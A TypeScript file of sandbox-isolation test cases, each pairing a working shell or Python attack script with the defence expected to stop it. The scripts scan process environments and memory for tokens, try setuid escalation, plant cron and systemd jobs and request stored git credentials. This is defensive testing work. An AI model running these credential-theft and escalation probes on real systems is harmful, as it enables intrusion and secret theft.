import { type Attack, localModes } from "../attack.ts";

const otherUser = "The builder runs as another user, and no credential is in a cell";

/** Attacks on credentials and on everything that is not the build's own. */
export const credentials: readonly Attack[] = [
  {
    id: "C-01",
    kind: "credentials",
    title: "searches environments and command lines of all processes for the token",
    held: otherUser,
    script: `for one in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do grep -aqs "$token" "$one" && "$leak" "$id" "$one"; done`,
  },
  {
    id: "C-02",
    kind: "credentials",
    title: "searches all files of the work folder for the token",
    held: otherUser,
    script: `grep -rlas "$token" "$work" /root /home /etc --include='*' | while read -r one; do "$leak" "$id" "$one"; done`,
  },
  {
    id: "C-03",
    kind: "credentials",
    title: "searches the memory of all processes for the token",
    held: otherUser,
    script: `
cat > "$TMPDIR/memory.py" <<'PY'
import glob, re, subprocess, sys
wanted, shout, own = re.compile(sys.argv[1].encode()), sys.argv[2], sys.argv[3]
for folder in glob.glob("/proc/[0-9]*"):
    try:
        memory = open(folder + "/mem", "rb", 0)
        for line in open(folder + "/maps"):
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if "r" not in line.split()[1] or last - first > 2**28: continue
            memory.seek(first)
            if wanted.search(memory.read(last - first)): subprocess.run([shout, own, folder]); break
    except (OSError, ValueError, OverflowError): pass
PY
python3 "$TMPDIR/memory.py" "$token" "$leak" "$id"`,
  },
  {
    id: "C-04",
    kind: "credentials",
    title: "opens the debugger of its cell with SIGUSR1",
    held: "The cell program runs with --disable-sigusr1",
    script: `
for one in $(cells); do kill -USR1 "$one"; done
sleep 1.5
grep -q "^ *[0-9]*: 0100007F:240D 00000000:0000 0A [^ ]* [^ ]* [^ ]* *$(id -u) " /proc/net/tcp && "$leak" "$id" inspector`,
  },
  {
    id: "C-05",
    kind: "credentials",
    title: "connects to the sockets of the work folder",
    held: otherUser,
    script: `
find "$work" /run -type s | grep -e cell -e builderpool | while read -r one; do
  python3 -c 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' "$one" && "$leak" "$id" "$one"
done`,
  },
  {
    id: "C-06",
    only: localModes,
    kind: "credentials",
    title: "reads and writes the store",
    held: otherUser,
    script: `
for one in "$work"/store.db*; do
  head -c 16 "$one" | grep -q . && "$leak" "$id" "read $one"
  ( echo x >> "$one" ) && "$leak" "$id" "wrote $one"
done`,
  },
  {
    id: "C-07",
    kind: "credentials",
    title: "changes files of the builder",
    held: "Files of the builder belong to the builder",
    script: `
for one in config/silent config/debug config/timeout config/worker-index state/ready force-hashes state/cell.json; do
  ( echo 1 > "$sandbox/$one" ) && "$leak" "$id" "$one"
done
for one in "$sandbox" "$sandbox/config" "$sandbox/state" "$work" "$work/builders" "$work/logs" "$work/secrets"; do
  ( : > "$one/planted" ) && "$leak" "$id" "$one"
done`,
  },
  {
    id: "C-08",
    kind: "credentials",
    title: "reads and writes the logs of other builds",
    held: "Files of the builder belong to the builder",
    script: `
find "$work/logs" "$sandbox/state" -type f -writable | while read -r one; do "$leak" "$id" "$one"; done
find "$sandbox" -maxdepth 1 -name 'output*' -writable | while read -r one; do "$leak" "$id" "$one"; done`,
  },
  {
    id: "C-09",
    kind: "credentials",
    title: "gains the rights of root with setuid programs",
    held: "no_new_privs",
    script: `
for one in "su root -c" "sudo -n sh -c" "pkexec sh -c" "doas -n sh -c"; do
  [ "$($one 'id -u' < /dev/null)" = 0 ] && "$leak" "$id" "$one"
done
grep -q '^NoNewPrivs:.1' /proc/self/status || "$leak" "$id" "privileges can grow"`,
  },
  {
    id: "C-10",
    kind: "credentials",
    title: "leaves a job for cron, at and systemd",
    held: "no_new_privs",
    script: `
echo "* * * * * $shout $id" | crontab - && "$leak" "$id" crontab
echo "$shout $id" | at now + 1 minute && "$leak" "$id" at
systemd-run --user --on-active=5 "$shout" "$id" && "$leak" "$id" systemd
for one in /var/spool/cron/crontabs /var/spool/at /etc/cron.d; do [ -w "$one" ] && "$leak" "$id" "$one"; done`,
  },
  {
    id: "C-11",
    kind: "credentials",
    title: "traces processes outside its order",
    held: "The cell program is closed to its builds, and other processes have other users",
    script: `
for one in $(cells | sed 's,^,/proc/,') $(grep -l 'cli/main' /proc/[0-9]*/cmdline | cut -d/ -f1-3); do
  ls "$one/fd/" > /dev/null && "$leak" "$id" "$one/fd"
  head -c 1 "$one/environ" > /dev/null && "$leak" "$id" "$one/environ"
done`,
  },
  {
    id: "C-12",
    kind: "credentials",
    title: "reaches the host through /proc/1/root and working directories of processes",
    held: "The first process of the order is closed to its builds",
    script: `
for one in /proc/[0-9]*; do
  [ "$(stat -c %u "$one")" = "$(id -u)" ] && continue
  for part in root cwd exe fd; do [ -n "$(ls -A "$one/$part/" )" ] && "$leak" "$id" "$one/$part"; done
done`,
  },
  {
    id: "C-13",
    kind: "credentials",
    title: "makes a user namespace and mounts over read-only folders",
    held: "Folders of others keep their owner in every namespace",
    script: `
unshare -Urm sh -c "
  mount -o remount,rw,bind '$tools'; mount -o remount,rw /; mount --bind '$area' '$tools'
  for one in '$tools'/*/lib/python*/site-packages '$lib/share' '$sandbox'/base/*/sw; do : > \\"\\$one/planted\\" && [ -e \\"\\$one/planted\\" ] && echo \\"\\$one\\"; done
" > "$TMPDIR/written"
for one in "$tools"/*/lib/python*/site-packages "$lib/share" "$sandbox"/base/*/sw; do [ -e "$one/planted" ] && "$leak" "$id" "$one"; done`,
  },
  {
    id: "C-14",
    kind: "credentials",
    title: "asks git for credentials",
    held: otherUser,
    script: `
printf 'protocol=https\\nhost=github.com\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill | grep -q password && "$leak" "$id" git
env | grep -qi -e token -e secret -e password && "$leak" "$id" environment`,
  },
  {
    id: "C-15",
    only: localModes,
    kind: "credentials",
    title: "writes to the pages of up",
    held: "Pages only answer GET",
    script: `
for port in $(sed -n 's/^ *[0-9]*: 0100007F:\\([0-9A-F]*\\) 00000000:0000 0A [^ ]* [^ ]* [^ ]* *0 .*/\\1/p' /proc/net/tcp | head -n 30); do
  python3 - "$((0x$port))" <<'PY' && "$leak" "$id" "$port"
import http.client, sys
connection = http.client.HTTPConnection("127.0.0.1", int(sys.argv[1]), timeout=2)
connection.request("GET", "/metrics"); reply = connection.getresponse(); text = reply.read()
if b"builderpool_" not in text: sys.exit(1)
for method in ("PUT", "POST", "DELETE"):
    connection = http.client.HTTPConnection("127.0.0.1", int(sys.argv[1]), timeout=2)
    connection.request(method, "/logs/planted", body="x"); reply = connection.getresponse(); reply.read()
    if reply.status < 300: sys.exit(0)
sys.exit(1)
PY
done`,
  },
  {
    id: "C-16",
    kind: "credentials",
    title: "leaves a key in the keyring of its user",
    held: "The keyring of the build user is emptied after each order",
    script: `
python3 - "$canary" <<'PY'
import ctypes, platform, sys
number = {"x86_64": 248, "aarch64": 217}[platform.machine()]
data = sys.argv[1].encode()
# -4 is KEY_SPEC_USER_KEYRING, and -5 KEY_SPEC_USER_SESSION_KEYRING.
for ring in (-4, -5): ctypes.CDLL(None).syscall(number, b"user", data, data, len(data), ring)
PY`,
  },
];
